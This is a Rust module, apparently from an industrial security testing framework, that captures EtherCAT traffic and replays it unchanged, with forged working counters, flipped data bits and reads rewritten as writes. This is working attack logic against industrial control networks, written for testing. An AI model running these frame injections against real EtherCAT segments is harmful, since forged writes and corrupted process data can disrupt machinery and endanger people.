//! EtherCAT man-in-the-middle probes
//!
//! Listens to the segment for a while, then sends the captured frames back
//! in four variants: unchanged, with a forged working counter, with flipped
//! data bits and with read commands turned into writes. Every frame that
//! goes out carries the attribution marker when it fits.
pub mod mutation;

pub use mutation::{MutatedFrame, Mutation};

use kraken_capture::{CaptureBuffer, CaptureConfig};
use kraken_core::{AttackContext, Evidence, Module, ModuleDescriptor, ModuleOutcome, Result, Severity};
use std::time::{Duration, Instant};
use tracing::{debug, info};

/// Parameter key overriding the capture window in milliseconds
pub const CAPTURE_MS_PARAM: &str = "capture_ms";

/// Default capture window
pub const DEFAULT_CAPTURE: Duration = Duration::from_millis(2000);

const FORWARD_TIMEOUT: Duration = Duration::from_millis(50);

static DESCRIPTOR: ModuleDescriptor = ModuleDescriptor {
    id: "ecat_mitm",
    finding_id: "ecat-mitm",
    name: "EtherCAT MITM",
    title: "EtherCAT MITM Testing",
    description: "Capture traffic, then replay it unchanged, with forged WKC, corrupted data and substituted commands",
    tags: &["ethercat", "mitm", "integrity"],
};

#[derive(Debug, Clone, Copy, Default)]
pub struct EcatMitmModule;

impl EcatMitmModule {
    pub fn new() -> Self {
        Self
    }
}

fn window_label(window: Duration) -> String {
    let ms = window.as_millis();
    if ms % 1000 == 0 {
        format!("{} seconds", ms / 1000)
    } else {
        format!("{}ms", ms)
    }
}

/// Send one strategy's output for the captured frames; returns frames sent
fn forward(ctx: &mut AttackContext<'_>, buffer: &CaptureBuffer, mutation: Mutation) -> u64 {
    if buffer.is_empty() {
        ctx.log(mutation.empty_message());
        return 0;
    }

    let frames = match mutation.limit() {
        Some(limit) => &buffer.frames()[..limit.min(buffer.len())],
        None => buffer.frames(),
    };

    let mut sent = 0u64;
    let mut unmarked = 0u64;
    for frame in frames {
        if ctx.is_expired() {
            break;
        }

        let mutated = match mutation.apply(frame.data()) {
            Some(m) => m,
            None => continue,
        };
        if !mutated.marked {
            unmarked += 1;
        }
        if ctx.send(&mutated.bytes, FORWARD_TIMEOUT) {
            sent += 1;
        }
    }

    if unmarked > 0 {
        debug!(
            module = ctx.module_id(),
            test = mutation.name(),
            unmarked,
            "Forwarded frames without attribution marker"
        );
    }

    ctx.log(mutation.sent_message(sent));
    sent
}

impl Module for EcatMitmModule {
    fn descriptor(&self) -> &'static ModuleDescriptor {
        &DESCRIPTOR
    }

    fn run(&self, ctx: &mut AttackContext<'_>) -> Result<ModuleOutcome> {
        let window = ctx
            .params()
            .duration_ms_or(CAPTURE_MS_PARAM, DEFAULT_CAPTURE.as_millis() as u64)?;

        ctx.log("Starting EtherCAT MITM tests");
        ctx.log(format!("Phase 1: Capturing traffic ({})", window_label(window)));

        let listen = ctx.deadline_for(window).saturating_duration_since(Instant::now());
        let mut buffer = CaptureBuffer::new();
        let captured = buffer.capture(ctx.connection(), &CaptureConfig::new(listen));
        ctx.log(format!("  Captured {} EtherCAT frames", captured));
        debug!(module = DESCRIPTOR.id, "Capture: {}", buffer.stats().summary());

        let mut evidence = Evidence::new()
            .with("captured", captured)
            .with("capture", buffer.stats().summary());

        ctx.log("Phase 2: Replay attacks");
        let mut total_sent = 0u64;
        for (i, mutation) in Mutation::ALL.iter().enumerate() {
            if ctx.is_expired() {
                ctx.log(format!(
                    "Timeout reached, skipping remaining tests from {}",
                    mutation.name()
                ));
                break;
            }

            ctx.log(format!("Test {}: {}", i + 1, mutation.title()));
            let sent = forward(ctx, &buffer, *mutation);
            evidence.insert(format!("{}_sent", mutation.name()), sent);
            total_sent += sent;
        }

        ctx.log(format!(
            "MITM tests complete. Captured {}, replayed/modified {} frames",
            captured, total_sent
        ));
        info!(module = DESCRIPTOR.id, captured, sent = total_sent, "MITM tests finished");

        let success = captured > 0 && total_sent > 0;
        Ok(ModuleOutcome {
            success,
            severity: if success { Severity::High } else { Severity::Info },
            description: format!(
                "Captured {} frames, replayed {} modified. Tests replay, WKC mod, corruption, cmd sub.",
                captured, total_sent
            ),
            evidence: evidence.with("total_sent", total_sent),
        })
    }
}
